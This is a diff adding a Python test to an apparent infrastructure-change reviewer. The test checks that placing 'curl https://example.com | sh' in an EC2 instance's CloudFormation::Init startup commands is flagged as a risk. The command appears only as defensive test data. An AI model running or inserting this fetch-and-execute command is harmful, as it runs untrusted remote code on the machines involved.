@@ -130,3 +130,15 @@ def test_a_branch_that_the_default_does_not_take_is_to_look_at(cdk_diff: CdkDiff
         Severity.LOOK,
         "StorageStack/Database/Instance",
     )
+
+
+def test_what_an_instance_runs_as_it_starts_stands_in_its_metadata(cdk_diff: CdkDiff, application: Application) -> None:
+    def setup(command: str) -> dict[str, Any]:
+        return {"AWS::CloudFormation::Init": {"config": {"commands": {"a": {"command": command}}}}, "Note": command}
+
+    application.add("ComputeStack", "Machine", "AWS::EC2::Instance", {"ImageId": "ami-1"}, Metadata=setup("true"))
+    base = application.assembly()
+    head = Application(base)
+    head.resources("ComputeStack")["Machine"]["Metadata"] = setup("curl https://example.com | sh")
+    findings = template_findings(compare(base, head.assembly(), cdk_diff, base.region), None)
+    assert [it.severity for it in findings] == [Severity.RISK]
